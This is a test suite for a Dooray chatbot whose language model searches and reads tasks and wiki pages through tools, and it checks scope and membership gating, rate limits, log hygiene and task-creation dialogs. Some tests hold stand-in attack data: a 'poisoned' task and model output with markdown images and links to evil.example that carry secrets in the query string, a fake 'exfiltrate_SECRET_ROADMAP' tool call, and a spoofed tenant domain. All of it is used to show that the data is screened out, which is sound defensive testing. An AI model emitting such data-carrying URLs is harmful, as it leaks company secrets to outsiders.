import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { toolMessages } from "../../handler/dooray/toolMessages.js";
import { messages } from "../../handler/dooray/messages.js";
import {
  SAMPLE_LOCKED_PROJECT_ID,
  SAMPLE_PROJECT_ID,
  SAMPLE_TOKEN,
  SAMPLE_WIKI_ID,
  startSampleDoorayApi,
  type RecordedDoorayRequest,
  type SampleDoorayApi,
} from "../../handler/dev/sampleDoorayApi.js";
import { DIALOG_REF_MAX_AGE_SECONDS, dialogRef } from "../../handler/job/conversationRef.js";
import { clearAccessCache } from "../../handler/tools/askerAccess.js";
import { RECENT_TASK_MINUTES } from "../../handler/worker/createTask.js";
import { MAX_JOB_TOOL_RESULT_BYTES } from "../../handler/worker/toolRounds.js";
import { API_KEY, APP_TOKEN, CHANNEL_ID, finalPosts, pressPayload, startHarness, TENANT_ID, USER_ID, type Harness } from "../support/harness.js";

/**
 * The channel's Dooray tools, end to end: a model that asks for tools, the worker running them against a loopback
 * Dooray API (the sample the repository ships), and the answer with its links (docs/architecture.md, "Dooray tools").
 */
const OTHER_CHANNEL = "9999999999999999999";
/** A channel scoped to the sample project and a locked one (SAMPLE_LOCKED_PROJECT_ID, "보안"). */
const TWO_PROJECTS_CHANNEL = "8888888888888888888";
const SCOPE = { projects: [SAMPLE_PROJECT_ID], wikis: [SAMPLE_WIKI_ID] };
const TASK_LINK = `https://guide.dooray.com/task/${SAMPLE_PROJECT_ID}/3570526358279082001`;
/** The asker's membership checks (askerAccess.ts), apart from the tools' own reads. */
const isAccessCheck = (request: RecordedDoorayRequest) =>
  /^\/project\/v1\/projects\/\d+(\/members\/\d+)?$/.test(request.path) || request.path === "/wiki/v1/wikis";

describe("Dooray tools", () => {
  let api: SampleDoorayApi;
  let h: Harness;
  beforeAll(async () => {
    api = await startSampleDoorayApi();
    h = await startHarness({
      CHANNEL_PROFILES: JSON.stringify({
        [CHANNEL_ID]: { name: "플랫폼", dooray: SCOPE },
        [OTHER_CHANNEL]: { name: "잡담" },
        [TWO_PROJECTS_CHANNEL]: { name: "플랫폼과 보안", dooray: { projects: [SAMPLE_PROJECT_ID, SAMPLE_LOCKED_PROJECT_ID], wikis: [] } },
      }),
      DOORAY_API_URL: api.url,
      DOORAY_API_TOKEN: SAMPLE_TOKEN,
    });
  });
  afterEach(async () => {
    await h.dev.idle();
    api.requests.length = 0;
    api.setMembers(SAMPLE_PROJECT_ID, undefined);
    api.failMembershipChecks(0);
    clearAccessCache();
  });
  const toolRequests = () => api.requests.filter((request) => !isAccessCheck(request));
  afterAll(async () => {
    await h?.close();
    await api?.close();
  });

  const ask = async (question: string, overrides: Record<string, unknown> = {}) => {
    const sent = await h.command(question, overrides);
    expect(sent.body.text).toBe(messages.ack);
    await h.dev.idle();
    return {
      posts: h.dooray.postsFor(sent.hookId).map((post) => post.body.text),
      final: finalPosts(h.dooray.postsFor(sent.hookId))
        .map((post) => post.body.text)
        .join("\n"),
    };
  };
  const offered = (index: number) => (h.model.requests[index]?.body.tools ?? []).map((tool) => tool.function.name);

  it("offers the tools only in a channel whose profile grants a scope", async () => {
    const before = h.model.requests.length;
    await ask("안녕", { channelId: OTHER_CHANNEL });
    expect(offered(before)).toEqual([]);
    await ask("안녕");
    expect(offered(before + 1)).toEqual(["search_tasks", "read_task", "list_wiki_pages", "read_wiki_page"]);
    // Only scoped ids may be named: the schema lists them.
    expect(h.model.requests[before + 1]!.body.tools![0]!.function.parameters.properties.projectId).toMatchObject({ enum: [SAMPLE_PROJECT_ID] });
    // Before the model saw them: is the asker a member of the project, and of the wiki's project? Nothing else.
    expect(api.requests.map((request) => `${request.method} ${request.path}`).sort()).toEqual([
      `GET /project/v1/projects/${SAMPLE_PROJECT_ID}/members/${USER_ID}`,
      "GET /wiki/v1/wikis",
    ]);
  });

  it("searches and reads a task with the token, shows what it looks up, and ends the answer with the task's link", async () => {
    const { posts, final } = await ask('배포 알려줘 [[call:search_tasks:{"query":"배포"}]] [[call:read_task:{"taskId":"3570526358279082001"}]]');
    expect(posts[0]).toBe("🔎 업무를 찾는 중…");
    expect(api.requests.every((request) => request.authorization === `dooray-api ${SAMPLE_TOKEN}`)).toBe(true);
    expect(toolRequests().map((request) => `${request.method} ${request.path}`)).toEqual([
      `GET /project/v1/projects/${SAMPLE_PROJECT_ID}/posts`,
      `GET /project/v1/projects/${SAMPLE_PROJECT_ID}/posts`,
      `GET /project/v1/projects/${SAMPLE_PROJECT_ID}/posts/3570526358279082001`,
      `GET /project/v1/projects/${SAMPLE_PROJECT_ID}/posts/3570526358279082001/logs`,
    ]);
    // Dooray's `subjects` matches whole titles; the words are also looked for in the recent tasks' titles.
    expect(toolRequests()[0]!.query).toMatchObject({ subjects: "배포" });
    // The model read the search (19-digit ids intact, though the list sent them as bare numbers) and the task.
    const toolMessages = h.model.requests
      .at(-1)!
      .body.messages.filter((message) => message.role === "tool")
      .map((message) => JSON.parse(message.content));
    expect(toolMessages[0].tasks.map((task: { taskId: string }) => task.taskId)).toEqual(["3570526358279082001", "3570526358279082002"]);
    expect(toolMessages[1]).toMatchObject({ title: "이번 주 배포 체크리스트", body: expect.stringContaining("카나리 10% 배포"), link: TASK_LINK });
    expect(final).toContain("카나리 10% 배포");
    expect(final.endsWith(`참고한 자료:\n- 이번 주 배포 체크리스트: ${TASK_LINK}`)).toBe(true);
    // Our own links to the tenant's Dooray pass the outside-link screen untouched.
    expect(final).toContain(`"link":"${TASK_LINK}"`);
  });

  it("refuses an argument outside the channel's scope before any request reaches Dooray", async () => {
    const { final } = await ask(
      '다른 프로젝트 [[call:read_task:{"taskId":"3570526358279082001","projectId":"1111111111111111111"}]] [[call:list_wiki_pages:{"wikiId":"2222222222222222222"}]]',
    );
    expect(toolRequests()).toEqual([]);
    const toolMessages = h.model.requests
      .at(-1)!
      .body.messages.filter((message) => message.role === "tool")
      .map((message) => JSON.parse(message.content));
    expect(toolMessages).toEqual([{ error: "that project is not open to this channel" }, { error: "that wiki is not open to this channel" }]);
    expect(final).not.toContain("참고한 자료");
    const refused = h.logs.map((line) => JSON.parse(line)).filter((entry) => entry.event === "tool.called");
    expect(refused.slice(-2).map((entry) => [entry.tool, entry.ok, entry.failure])).toEqual([
      ["read_task", false, "outOfScope"],
      ["list_wiki_pages", false, "outOfScope"],
    ]);
  });

  it("reads a wiki page and links it", async () => {
    const { posts, final } = await ask(
      '롤백 [[call:list_wiki_pages:{"wikiId":"3570526358279081999"}]] [[call:read_wiki_page:{"pageId":"3570526358279083002"}]]',
    );
    expect(posts[0]).toBe("📖 위키를 읽는 중…");
    expect(final).toContain("이전 커밋으로 되돌리는 PR");
    expect(final.endsWith("참고한 자료:\n- 롤백 절차: https://guide.dooray.com/project/pages/3570526358279083002")).toBe(true);
  });

  it("waits out a 429 as Dooray's headers say, and tells the model of a task that is not there", async () => {
    api.rateLimitNext(1);
    const { final } = await ask('[[call:read_task:{"taskId":"3570526358279089999"}]]');
    // The first call of the job, the membership check, met the 429, waited it out and went on.
    expect(api.requests.filter((request) => request.path.includes("/members/")).length).toBe(2);
    expect(toolRequests().map((request) => request.path)).toEqual([`/project/v1/projects/${SAMPLE_PROJECT_ID}/posts/3570526358279089999`]);
    expect(final).toContain('자료: {"error":"not found, or not visible to the bot\'s Dooray account"}');
    const entry = h.logs.map((line) => JSON.parse(line)).findLast((line) => line.event === "tool.called");
    expect(entry).toMatchObject({ tool: "read_task", ok: false, failure: "notFound", items: 0 });
  });

  it("reserves and settles each model call of a tool round against the budgets, and stops after three rounds", async () => {
    const channelTokens = async () => Number(/이 채널: ([\d,]+) 토큰/.exec((await h.command("사용량")).body.text)![1]!.replace(/,/g, ""));
    const usedBefore = await channelTokens();
    const before = h.model.requests.length;
    const call = '[[call:search_tasks:{"query":"배포"}]]';
    await ask(`여러 번 ${call} ${call} ${call} ${call}`);
    // Three rounds may ask for tools; the fourth call gets none, so it answers.
    expect(h.model.requests.slice(before).map((request) => (request.body.tools ?? []).length)).toEqual([4, 4, 4, 0]);
    const finished = h.logs.map((line) => JSON.parse(line)).findLast((line) => line.event === "job.finished");
    expect(finished).toMatchObject({ outcome: "answered", toolRounds: 3 });
    // Each call's reported usage (the fake counts a token per character), every round's prompt included, is charged.
    const reported = h.model.requests
      .slice(before)
      .reduce((sum, request) => sum + request.body.messages.reduce((chars, message) => chars + (message.content ?? "").length, 0), 0);
    expect(finished.usedTokens).toBeGreaterThan(reported);
    expect((await channelTokens()) - usedBefore).toBe(finished.usedTokens);
  });

  describe("replies are checked, errors stay local", () => {
    const toolAnswers = () =>
      h.model.requests
        .at(-1)!
        .body.messages.filter((message) => message.role === "tool")
        .map((message) => JSON.parse(message.content) as Record<string, unknown>);

    it("refuses a task whose reply says it belongs to a project outside the scope, before the model reads it", async () => {
      const misplaced = api.addTask("다른 프로젝트의 업무", "보이면 안 되는 본문 OUTSIDE-SCOPE-BODY", { claimsProject: "1111111111111111111" });
      const { final } = await ask(`[[call:read_task:{"taskId":"${misplaced}"}]] [[call:search_tasks:{"query":"다른 프로젝트의"}]]`);
      expect(toolAnswers()[0]).toEqual({ error: "that task is not in this channel's projects" });
      expect((toolAnswers()[1]!.tasks as unknown[]).length).toBe(0);
      expect(JSON.stringify(h.model.requests.at(-1)!.body.messages)).not.toContain("OUTSIDE-SCOPE-BODY");
      expect(final).not.toContain("참고한 자료");
    });

    it("searches every project that answers when one of them refuses, and names the one it could not search", async () => {
      api.setMembers(SAMPLE_LOCKED_PROJECT_ID, { [USER_ID]: "member" });
      try {
        await ask('[[call:search_tasks:{"query":"배포"}]]', { channelId: TWO_PROJECTS_CHANNEL });
        const [search] = toolAnswers();
        expect((search!.tasks as { taskId: string }[]).map((task) => task.taskId)).toContain("3570526358279082001");
        expect(search!.notSearched).toEqual([{ projectId: SAMPLE_LOCKED_PROJECT_ID, reason: "not found, or not visible to the bot's Dooray account" }]);
      } finally {
        api.setMembers(SAMPLE_LOCKED_PROJECT_ID, undefined);
      }
    });

    it("reads a task whose body is not a string as empty, instead of failing the answer", async () => {
      const odd = api.addTask("본문이 이상한 업무", { blocks: ["not", "a", "string"] });
      const { final } = await ask(`[[call:read_task:{"taskId":"${odd}"}]]`);
      expect(toolAnswers()[0]).toMatchObject({ title: "본문이 이상한 업무", body: "" });
      expect(final).toContain("참고한 자료:");
      const answered = h.logs.map((line) => JSON.parse(line)).findLast((entry) => entry.event === "job.modelError" || entry.event === "job.answered");
      expect(answered?.event).not.toBe("job.modelError");
    });

    it("caps what one question's tool results add up to, telling the model to answer from what it has", async () => {
      const long = api.addTask("긴 회의록", "가나다라마바사아자차카타파하".repeat(250));
      await ask(`[[calls:3:read_task:{"taskId":"${long}"}]]`);
      const answers = toolAnswers();
      const bytes = h.model.requests
        .at(-1)!
        .body.messages.filter((message) => message.role === "tool")
        .reduce((sum, message) => sum + Buffer.byteLength(message.content, "utf8"), 0);
      expect(answers[0]).toMatchObject({ title: "긴 회의록" });
      expect(answers.at(-1)).toEqual({ error: "this question has read as much as it may; answer from what you already have" });
      expect(bytes).toBeLessThanOrEqual(MAX_JOB_TOOL_RESULT_BYTES + 200);
      expect(h.logs.map((line) => JSON.parse(line)).some((entry) => entry.event === "tool.resultsCapped")).toBe(true);
    });

    it("logs a tool the bot does not offer as unknown, never as the model named it", async () => {
      await ask("[[call:exfiltrate_SECRET_ROADMAP_Q3_0123456789:{}]]");
      const entry = h.logs.map((line) => JSON.parse(line)).findLast((line) => line.event === "tool.called");
      expect(entry).toMatchObject({ tool: "unknown", ok: false, failure: "badArguments" });
      expect(h.logs.join("\n")).not.toContain("SECRET_ROADMAP");
    });

    it("the sample Dooray API answers a body that is not JSON with 400, and goes on serving", async () => {
      const post = await fetch(`${api.url}/project/v1/projects/${SAMPLE_PROJECT_ID}/posts`, {
        method: "POST",
        headers: { authorization: `dooray-api ${SAMPLE_TOKEN}`, "content-type": "application/json" },
        body: "{not json",
      });
      expect(post.status).toBe(400);
      expect(((await post.json()) as { header: { isSuccessful: boolean } }).header.isSuccessful).toBe(false);
      const after = await fetch(`${api.url}/project/v1/projects/${SAMPLE_PROJECT_ID}`, { headers: { authorization: `dooray-api ${SAMPLE_TOKEN}` } });
      expect(after.status).toBe(200);
    });

    it("builds links on the responseUrl's host when the request's tenant domain is not an allowed Dooray host", async () => {
      const { final } = await ask('[[call:read_task:{"taskId":"3570526358279082001"}]]', { tenantDomain: "evil.example" });
      expect(final).toMatch(new RegExp(`- 이번 주 배포 체크리스트: https://127\\.0\\.0\\.1:\\d+/task/${SAMPLE_PROJECT_ID}/3570526358279082001`));
      expect(final).not.toContain("evil.example");
    });
  });

  describe("the asker's own access", () => {
    const NOT_MEMBER_NOTICE = "🔒 플랫폼 프로젝트, 플랫폼 위키는 구성원만 볼 수 있어서 이번 답변에는 넣지 않았어요.";

    it("a member of one scoped project and not the other: the model sees and searches only the open one, and the person is told which was left out", async () => {
      const before = h.model.requests.length;
      const { final } = await ask(
        '배포 [[call:search_tasks:{"query":"배포"}]] [[call:read_task:{"taskId":"3570526358279082001","projectId":"3570526358279081600"}]]',
        { channelId: TWO_PROJECTS_CHANNEL },
      );
      expect(h.model.requests[before]!.body.tools![0]!.function.parameters.properties.projectId).toMatchObject({ enum: [SAMPLE_PROJECT_ID] });
      // The search went to the open project only, and the locked one was refused before any request.
      expect(toolRequests().every((request) => request.path.startsWith(`/project/v1/projects/${SAMPLE_PROJECT_ID}/`))).toBe(true);
      expect(toolRequests().length).toBeGreaterThan(0);
      const toolAnswers = h.model.requests
        .at(-1)!
        .body.messages.filter((message) => message.role === "tool")
        .map((message) => JSON.parse(message.content));
      expect(toolAnswers[1]).toEqual({ error: "that project is not open to this channel" });
      expect(final).toContain("🔒 보안 프로젝트는 구성원만 볼 수 있어서 이번 답변에는 넣지 않았어요.");
      expect(final).toContain("참고한 자료:");
    });

    for (const [who, roles] of [
      ["an outsider (404 on the check)", { "1111111111111111111": "member" }],
      ["a leaver (left the project)", { [USER_ID]: "leaver" }],
      ["a guest-like role that is not admin or member", { [USER_ID]: "guest" }],
    ] as const) {
      it(`${who} gets no tools: neither the project nor its wiki, and the answer says so`, async () => {
        api.setMembers(SAMPLE_PROJECT_ID, roles);
        const before = h.model.requests.length;
        const { final } = await ask('배포 [[call:search_tasks:{"query":"배포"}]]');
        expect(h.model.requests[before]!.body.tools ?? []).toEqual([]);
        expect(toolRequests()).toEqual([]);
        expect(final).toContain(NOT_MEMBER_NOTICE);
        expect(final).not.toContain("참고한 자료");
        const access = h.logs.map((line) => JSON.parse(line)).findLast((entry) => entry.event === "tools.access");
        expect(access).toMatchObject({ allowed: 0, notMember: 2, unchecked: 0 });
      });
    }

    it("the wiki counts as its project's: a member of the project reads the wiki", async () => {
      api.setMembers(SAMPLE_PROJECT_ID, { [USER_ID]: "admin" });
      const { final } = await ask('[[call:read_wiki_page:{"pageId":"3570526358279083002"}]]');
      expect(final).toContain("이전 커밋으로 되돌리는 PR");
      expect(final).not.toContain("🔒");
    });

    it("when Dooray cannot answer the check, nothing is read for this question, and the person is told it was not checked", async () => {
      api.failMembershipChecks(1);
      const before = h.model.requests.length;
      const { final } = await ask('배포 [[call:search_tasks:{"query":"배포"}]]');
      expect(h.model.requests[before]!.body.tools ?? []).toEqual([]);
      expect(toolRequests()).toEqual([]);
      expect(final).toContain("⚠️ 두레이가 제때 답하지 않아 플랫폼 프로젝트, 플랫폼 위키의 구성원인지 확인하지 못했어요. 이번 답변에는 넣지 않았어요.");
      // Not remembered: the next question asks again, and reads.
      api.requests.length = 0;
      const again = await ask('배포 [[call:search_tasks:{"query":"배포"}]]');
      expect(api.requests.some((request) => request.path.endsWith(`/members/${USER_ID}`))).toBe(true);
      expect(again.final).toContain("참고한 자료:");
    });

    it("asks once per project and person for a few minutes: a second question checks nothing again", async () => {
      await ask('[[call:search_tasks:{"query":"배포"}]]');
      api.requests.length = 0;
      await ask('[[call:search_tasks:{"query":"배포"}]]');
      expect(api.requests.filter(isAccessCheck)).toEqual([]);
      expect(toolRequests().length).toBeGreaterThan(0);
    });
  });

  it("keeps company data out of every log line: tool names, counts and times only", async () => {
    await ask('[[call:read_task:{"taskId":"3570526358279082001"}]]');
    const all = h.logs.join("\n");
    for (const secretOrData of [SAMPLE_TOKEN, "카나리", "이번 주 배포 체크리스트", "3570526358279082001", API_KEY]) expect(all).not.toContain(secretOrData);
  });
});

describe("할 일로 만들기", () => {
  const TASK_CHANNEL = "4444444444444444444";
  let api: SampleDoorayApi;
  let h: Harness;
  beforeAll(async () => {
    api = await startSampleDoorayApi();
    h = await startHarness({
      CHANNEL_PROFILES: JSON.stringify({
        [TASK_CHANNEL]: { name: "플랫폼", dooray: { ...SCOPE, taskProject: SAMPLE_PROJECT_ID } },
        [CHANNEL_ID]: { name: "읽기만", dooray: SCOPE },
      }),
      DOORAY_API_URL: api.url,
      DOORAY_API_TOKEN: SAMPLE_TOKEN,
    });
  });
  afterEach(async () => {
    await h.dev.idle();
    api.created.length = 0;
  });
  afterAll(async () => {
    await h?.close();
    await api?.close();
  });

  const user = { id: USER_ID, name: "홍길동" };
  /** Asks in the channel; returns the final answer's buttons by name. */
  const answerIn = async (channelId: string, question: string) => {
    const sent = await h.command(question, { channelId });
    await h.dev.idle();
    const last = finalPosts(h.dooray.postsFor(sent.hookId)).at(-1)!.body as { attachments?: { actions: { name: string; value: string }[] }[] };
    return Object.fromEntries((last.attachments ?? []).flatMap((block) => block.actions).map((action) => [action.name, action.value]));
  };
  const pressIn = (channelId: string, value: string, presser = user) =>
    h
      .send({
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ ...pressPayload(value, { user: presser }), channel: { id: channelId, name: "플랫폼" } }),
      })
      .then(async (response) => ({ status: response.status, body: (await response.json()) as Record<string, unknown> }));
  const submitTask = async (callbackId: string, fields: Record<string, string>) => {
    const { hookId, responseUrl } = h.dooray.newResponseUrl();
    const response = await h.send({
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({
        type: "dialog_submission",
        tenant: { id: TENANT_ID, domain: "guide.dooray.com" },
        channel: { id: TASK_CHANNEL, name: "플랫폼" },
        user,
        responseUrl,
        cmdToken: "cmd-token-1",
        callbackId,
        submission: fields,
        appToken: APP_TOKEN,
      }),
    });
    const text = await response.text();
    await h.dev.idle();
    return {
      status: response.status,
      body: (text ? JSON.parse(text) : {}) as Record<string, unknown>,
      posts: h.dooray.postsFor(hookId).map((post) => post.body.text),
    };
  };

  it("keeps content's outside links and images out of the answer, its progress, its sources, the dialog and the task", async () => {
    const poisoned = api.addTask(
      "[클릭](https://evil.example/t) 배포",
      "상태 ![status](https://evil.example/pixel.png?d=SECRET-ROADMAP-Q3)\n자세히: https://evil.example/doc?d=SECRET-PLAN",
    );
    const sent = await h.command(`정리해줘 [[call:read_task:{"taskId":"${poisoned}"}]]`, { channelId: TASK_CHANNEL });
    await h.dev.idle();
    const posts = h.dooray.postsFor(sent.hookId).map((post) => post.body as { text: string; attachments?: { actions: { name: string; value: string }[] }[] });
    const shown = posts.map((post) => post.text).join("\n");
    // The model read the task as it is (the tool result is not filtered), but nothing it wrote after carries the links.
    expect(
      h.model.requests.at(-1)!.body.messages.some((message) => message.role === "tool" && message.content.includes("https://evil.example/pixel.png")),
    ).toBe(true);
    expect(shown).not.toMatch(/evil\.example|SECRET-ROADMAP|SECRET-PLAN|pixel\.png/);
    const final = posts.at(-1)!;
    expect(final.text).toContain("[이미지: status (evil[.]example)]");
    expect(final.text).toContain(`- 클릭 (evil[.]example) 배포: https://guide.dooray.com/task/${SAMPLE_PROJECT_ID}/${poisoned}`);
    const log = h.logs.map((line) => JSON.parse(line)).findLast((entry) => entry.event === "job.answered" || entry.linksRemoved !== undefined);
    expect(log?.linksRemoved).toBeGreaterThanOrEqual(2);
    // The dialog is prefilled from the stored, screened answer; a body typed with an outside image is screened too.
    const task = Object.fromEntries((final.attachments ?? []).flatMap((block) => block.actions).map((action) => [action.name, action.value])).task!;
    await pressIn(TASK_CHANNEL, task);
    const dialog = h.dooray.dialogs.at(-1)!.body;
    expect(JSON.stringify(dialog)).not.toMatch(/evil\.example|SECRET/);
    await submitTask(dialog.callbackId, { title: "점검", body: "보기 ![x](https://evil.example/p.png?d=SECRET-TYPED) 끝" });
    expect(api.created.at(-1)).toMatchObject({ subject: "점검", body: "보기 [이미지: x (evil[.]example)] 끝" });
  });

  it("says an expired task dialog is expired on its own field, with the dialog's own 1-hour limit", async () => {
    const buttons = await answerIn(TASK_CHANNEL, "배포 순서 정리해줘");
    await pressIn(TASK_CHANNEL, buttons.task!);
    const fresh = h.dooray.dialogs.at(-1)!.body.callbackId;
    const [, conversationId, turn, , dialogId] = fresh.split(".");
    const twoHoursAgo = Date.now() - 2 * 3600 * 1000;
    const stale = dialogRef(
      { kind: "task", conversationId: conversationId!, turn: Number(turn), dialogId: dialogId! },
      { tenantId: TENANT_ID, channelId: TASK_CHANNEL, userId: USER_ID },
      APP_TOKEN,
      twoHoursAgo,
    );
    const submitted = await submitTask(stale, { title: "늦은 제출", body: "" });
    expect(submitted.body).toEqual({ errors: [{ name: "title", error: messages.dialogExpired(DIALOG_REF_MAX_AGE_SECONDS / 3600) }] });
    expect(messages.dialogExpired(1)).toContain("1시간");
    expect(api.created).toEqual([]);
  });

  it("a create whose answer is lost is told as unknown, and pressing again finds that task instead of making a second", async () => {
    const buttons = await answerIn(TASK_CHANNEL, "분기 회고 정리해줘");
    await pressIn(TASK_CHANNEL, buttons.task!);
    api.loseNextCreateAnswer();
    const first = await submitTask(h.dooray.dialogs.at(-1)!.body.callbackId, { title: "분기 회고", body: "타임라인과 후속 조치" });
    expect(first.posts.at(-1)).toBe(toolMessages.taskOutcomeUnknown(`https://guide.dooray.com/task/${SAMPLE_PROJECT_ID}`, RECENT_TASK_MINUTES));
    expect(api.created).toHaveLength(1);
    await pressIn(TASK_CHANNEL, buttons.task!);
    const again = await submitTask(h.dooray.dialogs.at(-1)!.body.callbackId, { title: "분기 회고", body: "타임라인과 후속 조치" });
    expect(api.created).toHaveLength(1);
    expect(again.posts.at(-1)).toBe(toolMessages.taskAlreadyMade("분기 회고", `https://guide.dooray.com/task/${SAMPLE_PROJECT_ID}/${api.created[0]!.id}`));
    // Another title is another task.
    await pressIn(TASK_CHANNEL, buttons.task!);
    await submitTask(h.dooray.dialogs.at(-1)!.body.callbackId, { title: "분기 회고 후속", body: "" });
    expect(api.created.map((task) => task.subject)).toEqual(["분기 회고", "분기 회고 후속"]);
  });

  it("채널에 공유 of an answer built from Dooray content asks first, naming the projects it used, and shares only once confirmed", async () => {
    const buttons = await answerIn(TASK_CHANNEL, '배포 체크리스트 [[call:read_task:{"taskId":"3570526358279082001"}]]');
    const dialogsBefore = h.dooray.dialogs.length;
    const pressed = await pressIn(TASK_CHANNEL, buttons.share!);
    // Not shared at once: a dialog that names the project, and nothing posted to the channel.
    expect(pressed.body).not.toMatchObject({ responseType: "inChannel" });
    expect(h.dooray.dialogs).toHaveLength(dialogsBefore + 1);
    const dialog = h.dooray.dialogs.at(-1)!.body;
    expect(dialog.dialog.title).toBe("채널에 공유");
    expect(JSON.stringify(dialog.dialog.elements)).toContain(messages.shareDialog.label(["플랫폼 프로젝트"]).replace(/"/g, '\\"'));
    const { hookId, responseUrl } = h.dooray.newResponseUrl();
    const response = await h.send({
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({
        type: "dialog_submission",
        tenant: { id: TENANT_ID, domain: "guide.dooray.com" },
        channel: { id: TASK_CHANNEL, name: "플랫폼" },
        user,
        responseUrl,
        cmdToken: "cmd-token-1",
        callbackId: dialog.callbackId,
        submission: { confirm: "share" },
        appToken: APP_TOKEN,
      }),
    });
    expect(response.status).toBe(200);
    const shared = h.dooray.postsFor(hookId).map((post) => post.body);
    expect(shared).toHaveLength(1);
    expect(shared[0]).toMatchObject({ responseType: "inChannel", replaceOriginal: false });
    expect(shared[0]!.text).toMatch(/^💬 홍길동 님의 질문\n> 배포 체크리스트/);
    // An answer without Dooray content is shared at once, as before.
    const plain = await answerIn(TASK_CHANNEL, "인사말 써줘");
    expect((await pressIn(TASK_CHANNEL, plain.share!)).body).toMatchObject({ responseType: "inChannel", replaceOriginal: false });
  });

  it("screens a link the model writes itself after reading Dooray content", async () => {
    // The fake model repeats the question: here it "writes" an outside URL carrying data, after a tool ran.
    const sent = await h.command(
      '정리해서 ![x](https://evil.example/p.png?d=SECRET-MODEL) 와 https://evil.example/r?d=SECRET-MODEL-2 도 넣어줘 [[call:read_task:{"taskId":"3570526358279082001"}]]',
      { channelId: TASK_CHANNEL },
    );
    await h.dev.idle();
    const shown = h.dooray
      .postsFor(sent.hookId)
      .map((post) => post.body.text)
      .join("\n");
    expect(shown).toContain("답변: 정리해서 [이미지: x (evil[.]example)] 와 evil[.]example 도 넣어줘");
    expect(shown).not.toMatch(/SECRET-MODEL|evil\.example/);
  });

  it("puts a fourth button under answers only where the channel has a taskProject", async () => {
    expect(Object.keys(await answerIn(TASK_CHANNEL, "배포 순서 정리해줘"))).toEqual(["share", "regenerate", "followUp", "task"]);
    expect(Object.keys(await answerIn(CHANNEL_ID, "배포 순서 정리해줘"))).toEqual(["share", "regenerate", "followUp"]);
  });

  it("opens a dialog prefilled from the question and the answer, creates nothing until it is confirmed, then creates the task once and links it", async () => {
    const buttons = await answerIn(TASK_CHANNEL, "이번 주 배포 체크리스트 정리해줘");
    const pressed = await pressIn(TASK_CHANNEL, buttons.task!);
    expect(pressed.status).toBe(200);
    const dialog = h.dooray.dialogs.at(-1)!.body;
    expect(dialog.dialog.title).toBe("할 일로 만들기");
    expect(dialog.dialog.elements.map((element) => [element.name, (element as { value?: string }).value])).toEqual([
      ["title", "이번 주 배포 체크리스트 정리해줘"],
      ["body", "답변: 이번 주 배포 체크리스트 정리해줘"],
    ]);
    expect(api.created).toEqual([]);

    const submitted = await submitTask(dialog.callbackId, { title: "배포 체크리스트 확인", body: "1. 카나리\n2. 롤백 리허설" });
    expect(submitted).toMatchObject({ status: 200, body: {} });
    expect(api.created).toEqual([
      { projectId: SAMPLE_PROJECT_ID, subject: "배포 체크리스트 확인", body: "1. 카나리\n2. 롤백 리허설", id: expect.stringMatching(/^\d{19}$/) },
    ]);
    const created = api.requests.find((request) => request.method === "POST")!;
    expect(created.authorization).toBe(`dooray-api ${SAMPLE_TOKEN}`);
    expect(created.body).toMatchObject({ body: { mimeType: "text/x-markdown" } });
    expect(submitted.posts).toEqual([`✅ 업무를 만들었어요: 배포 체크리스트 확인\nhttps://guide.dooray.com/task/${SAMPLE_PROJECT_ID}/${api.created[0]!.id}`]);

    // The same dialog again: refused in the dialog, nothing more created.
    const again = await submitTask(dialog.callbackId, { title: "또", body: "" });
    expect(again.body).toEqual({ errors: [{ name: "title", error: messages.taskDialogUsed }] });
    expect(api.created).toHaveLength(1);
  });

  it("is the asker's alone, and refuses an empty title in the dialog", async () => {
    const buttons = await answerIn(TASK_CHANNEL, "회의록 요약");
    const stranger = await pressIn(TASK_CHANNEL, buttons.task!, { id: "5555555555555555555", name: "다른 사람" });
    expect(stranger.body).toMatchObject({ text: messages.pressNotYours });
    await pressIn(TASK_CHANNEL, buttons.task!);
    const empty = await submitTask(h.dooray.dialogs.at(-1)!.body.callbackId, { title: "  ", body: "x" });
    expect(empty.body).toEqual({ errors: [{ name: "title", error: messages.taskTitleEmpty }] });
  });

  it("tells the person why Dooray refused, in words, when a project needs tags", async () => {
    const buttons = await answerIn(TASK_CHANNEL, "장애 회고");
    await pressIn(TASK_CHANNEL, buttons.task!);
    api.refuseNextCreate();
    const before = api.created.length;
    const refused = await submitTask(h.dooray.dialogs.at(-1)!.body.callbackId, { title: "장애 회고", body: "" });
    expect(refused.posts).toEqual([toolMessages.taskFailed("badRequest", "필수 태그를 지정해야 합니다.")]);
    expect(refused.posts[0]).toContain("필수 태그를 지정해야 합니다.");
    expect(api.created).toHaveLength(before);
    const finished = h.logs.map((line) => JSON.parse(line)).findLast((line) => line.event === "job.finished");
    expect(finished).toMatchObject({ outcome: "taskFailed", failure: "badRequest", status: 500 });
    expect(JSON.stringify(finished)).not.toContain("필수 태그");
  });
});
